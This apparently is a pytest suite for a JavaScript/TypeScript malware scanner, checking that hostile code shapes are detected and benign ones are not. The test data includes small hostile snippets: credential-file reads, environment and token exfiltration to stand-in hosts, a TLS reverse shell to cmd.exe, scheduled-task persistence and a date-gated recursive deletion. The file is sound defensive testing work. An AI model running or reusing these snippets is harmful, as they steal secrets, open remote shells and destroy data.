"""The JavaScript/TypeScript analyzer: parse-tree rules, the regex fallback, lazy loading,
bounded cost on bundles, and the honest shapes real skills are full of."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest

from tank.scanner import Verdict, scan_files
from tank.scanner.analyzers.js import MAX_TREE_CHARS


def _rules(name: str, source: str, *, serious: bool = False) -> set[str]:
    findings = scan_files({name: source.encode()}).findings
    return {f.rule for f in findings if not serious or f.severity not in ("low", "info")}


@pytest.mark.parametrize(
    ("name", "source", "rule"),
    [
        # eval of decoded data through a variable, in TypeScript with type annotations
        (
            "a.ts",
            "const s: string = atob(input as string);\nnew Function(s)();\n",
            "js.eval_decoded",
        ),
        # a command run from decoded data, child_process bound by a named import alias
        (
            "a.mjs",
            "import { execSync as run } from 'node:child_process';\n"
            "run(Buffer.from(process.argv[2], 'hex').toString());\n",
            "js.eval_decoded",
        ),
        # eval in JSX/TSX
        (
            "a.tsx",
            "export const A = () => <b onClick={() => eval(String.fromCharCode(97))}>x</b>;\n",
            "js.eval_decoded",
        ),
        # require of a built name, and a global looked up by a built name
        ("a.cjs", "const m = require(`child${'_'}process`);\n", "js.obfuscated_require"),
        ("a.js", "globalThis['ev' + 'al']('1');\n", "js.obfuscated_require"),
        # credential store read through path.join(os.homedir(), …) held in a variable
        (
            "a.js",
            "const os = require('os'), path = require('path'), fs = require('fs');\n"
            "const p = path.join(os.homedir(), '.aws', 'credentials');\n"
            "fs.readFileSync(p, 'utf8');\n",
            "js.sensitive_read",
        ),
        # the whole environment sent by a chained request, in a callback
        (
            "a.js",
            "const https = require('https');\n"
            "setTimeout(() => https.request({host: 'x.example-cdn.io'})\n"
            "  .end(JSON.stringify(process.env)), 9);\n",
            "js.exfiltration",
        ),
        # a token read at module level leaves through DNS inside a function
        (
            "a.mjs",
            "import dns from 'node:dns';\nconst t = process.env.NPM_TOKEN;\n"
            "export function go() { dns.lookup(`${t}.x.example-dns.io`, () => {}); }\n",
            "js.exfiltration",
        ),
        # a reverse shell with tls and a Windows shell
        (
            "a.js",
            "const tls = require('tls'); const cp = require('child_process');\n"
            "const s = tls.connect(443, '198.51.100.7'); const sh = cp.spawn('cmd.exe');\n"
            "s.pipe(sh.stdin); sh.stdout.pipe(s);\n",
            "js.reverse_shell",
        ),
        # persistence through a command
        (
            "a.js",
            "require('child_process').execSync('schtasks /create /sc onlogon /tn u /tr x.exe');\n",
            "js.persistence",
        ),
        # a date gate held in a variable, around a deletion
        (
            "a.js",
            "const fs = require('fs');\nconst now = Date.now();\n"
            "if (now > 1767225600000) fs.rmSync(process.cwd(), { recursive: true });\n",
            "js.gated_payload",
        ),
        # a host-name gate through a variable and a literal list
        (
            "a.js",
            "const os = require('os');\nconst host = os.hostname();\n"
            "if (['ci-01', 'ci-02'].includes(host)) {\n"
            "  fetch('https://x.example-cdn.io/' + host);\n}\n",
            "js.gated_payload",
        ),
    ],
)
def test_malicious_shapes_are_found(name: str, source: str, rule: str) -> None:
    assert rule in _rules(name, source)


@pytest.mark.parametrize(
    ("name", "source"),
    [
        # a relative fetch posting form data (a dashboard calling its own server)
        ("app.js", "fetch('/api/runs', { method: 'POST', body: JSON.stringify(body) });\n"),
        # spawning a child with the environment passed on (not a network sink)
        (
            "run.js",
            "const { spawn } = require('child_process');\n"
            "spawn('npm', ['run', 'dev'], { env: { ...process.env, PORT: '5173' } });\n",
        ),
        # lazy-loaded locale files and plugin paths
        ("i18n.ts", "export const load = (l: string) => import(`./locales/${l}.json`);\n"),
        ("p.js", "const p = require(require('path').join(__dirname, 'plugins', name));\n"),
        # an API token in a header, elapsed-time retries, CI colour switch
        (
            "client.ts",
            "const started = Date.now();\nconst key = process.env.ACME_API_KEY;\n"
            "while (Date.now() - started < 30000) {\n"
            "  await fetch('https://api.acme.dev/v1/ping', { headers: { 'x-api-key': key! } });\n"
            "}\nif (!process.env.CI) console.log('\\u001b[32mok\\u001b[0m');\n",
        ),
        # production-only alerts keyed on a host-name prefix
        (
            "alert.js",
            "const os = require('os');\n"
            "if (os.hostname().startsWith('prod-')) fetch('https://hooks.acme.dev/x');\n",
        ),
        # RegExp.prototype.exec is not child_process exec
        ("re.js", "const m = /(\\d+)/.exec(Buffer.from(s, 'base64').toString());\n"),
        # writing a project file and reading package.json
        (
            "w.mjs",
            "import { readFileSync, writeFileSync } from 'node:fs';\n"
            "const pkg = JSON.parse(readFileSync('package.json', 'utf8'));\n"
            "writeFileSync('.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\\n');\n",
        ),
    ],
)
def test_honest_shapes_stay_quiet(name: str, source: str) -> None:
    assert not {r for r in _rules(name, source, serious=True) if r.startswith("js.")}


def test_a_file_with_syntax_errors_still_gets_tree_and_regex_rules() -> None:
    source = "function (( {\nconst cp = require('child' + '_process')\neval(atob('YWxlcnQoMSk='))\n"
    found = _rules("broken.js", source)
    assert {"js.eval_decoded", "js.obfuscated_require"} <= found


def test_grammars_load_only_when_a_script_is_scanned() -> None:
    code = (
        "import sys\nfrom tank.scanner import scan_files\n"
        "scan_files({'SKILL.md': b'# hi\\n'})\n"
        "print('tree_sitter' in sys.modules)\n"
        "scan_files({'a.js': b'eval(x)\\n'})\n"
        "print('tree_sitter' in sys.modules)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout.split()
    assert out == ["False", "True"]


def test_a_large_bundle_gets_the_regex_pass_in_bounded_time() -> None:
    chunk = "var a=function(n){return n*2},b=[1,2,3].map(a);if(b.length>2){console.log('x'+b)}"
    bundle = "!function(){" + chunk * (MAX_TREE_CHARS // len(chunk) * 4) + "}();"
    bundle += "\neval(atob('YWxlcnQoMSk='));\n"
    started = time.process_time()
    result = scan_files({"vendor/lib.min.js": bundle.encode()})
    assert time.process_time() - started < 8
    assert "scanner.analyzer_error" not in {f.rule for f in result.findings}
    assert result.verdict is Verdict.FAIL  # the regex fallback still sees the payload


def test_typescript_and_tsx_parse_without_falling_back() -> None:
    from tank.scanner.analyzers.js_tree import parse_js

    ts = "enum E { A }\nexport function f<T extends object>(x: T): keyof T { return x as any; }\n"
    tsx = "export const C = ({ n }: { n: number }) => <div>{n satisfies number}</div>;\n"
    assert not parse_js("a.ts", ts).broken
    assert not parse_js("a.tsx", tsx).broken
    assert parse_js("a.ts", tsx).broken  # JSX is not TypeScript: the dialect matters
